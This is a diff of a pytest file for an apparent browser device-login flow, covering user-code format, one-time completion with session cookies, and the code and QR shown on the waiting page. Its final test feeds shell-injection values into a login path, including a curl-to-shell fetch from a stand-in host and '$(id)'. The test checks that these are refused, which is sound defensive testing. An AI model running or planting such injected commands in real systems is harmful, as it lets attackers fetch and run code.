@@ -1,5 +1,6 @@
 """A browser that waits: its code is typed elsewhere, its cookie completes it, once."""
 
+import re
 from typing import Any
 
 import pytest
@@ -46,9 +47,7 @@ def test_an_approved_browser_is_signed_in_and_limited(ada: Holder, browser: Hold
 def test_a_code_has_eight_symbols_that_are_not_mistaken(browser: Holder) -> None:
     found = begin(browser)
 
-    half, _, other = found["user_code"].partition("-")
-    assert len(half) == len(other) == 4
-    assert not set(half + other) & set("01IO")
+    assert re.fullmatch("[2-9A-HJ-NP-Z]{8}", found["user_code"])
     assert found["purpose"] == "login"
 
 
@@ -186,9 +185,12 @@ def test_an_attempt_to_link_belongs_to_its_session(ada: Holder, new_holder: NewH
     second = new_holder("second")
     found = begin(ada, purpose="link")
     second.approve(found["attempt"], found["user_code"])
+    session = ada.client.cookies["hero_session"]
     ada.client.cookies.delete("hero_session")
 
     assert problem(complete(ada, found["attempt"])) == REFUSED
+    ada.client.cookies.set("hero_session", session)
+    assert complete(ada, found["attempt"]).status_code == 200, "it was not used up"
 
 
 def test_the_purpose_of_a_challenge_is_its_attempts(ada: Holder, new_holder: NewHolder) -> None:
@@ -264,9 +266,11 @@ def test_the_page_shows_the_code_only_to_the_browser_that_waits(
     own = browser.client.get(path, headers=page_headers)
     other = ada.client.get(path, headers=page_headers)
 
-    assert found["user_code"] in own.text
-    assert found["user_code"] not in other.text
-    assert "<svg" in own.text
+    code = f"{found['user_code'][:4]}-{found['user_code'][4:]}"
+    assert code in own.text
+    assert code not in other.text
+    assert 'class="qr"' in own.text
+    assert 'class="qr"' not in other.text
 
 
 def test_a_form_goes_back_to_the_waiting_page_and_then_on(ada: Holder, browser: Holder) -> None:
@@ -289,3 +293,13 @@ def test_what_another_site_sends_is_refused(browser: Holder, path: str) -> None:
         answer = browser.client.post(path, json={}, headers=headers)
         assert problem(answer) == (403, "request.cross_site")
         assert "Set-Cookie" not in answer.headers
+
+
+@pytest.mark.parametrize(
+    "name", ["x;curl%20evil.example%7Csh", "x%0acurl%20evil.example%0a", "$(id)", "x" * 3000]
+)
+def test_no_page_shows_a_command_that_somebody_else_wrote(browser: Holder, name: str) -> None:
+    page = browser.client.get(f"/login/{name}", headers={"Accept": "text/html"})
+
+    assert page.status_code == 404
+    assert "data-copy" not in page.text
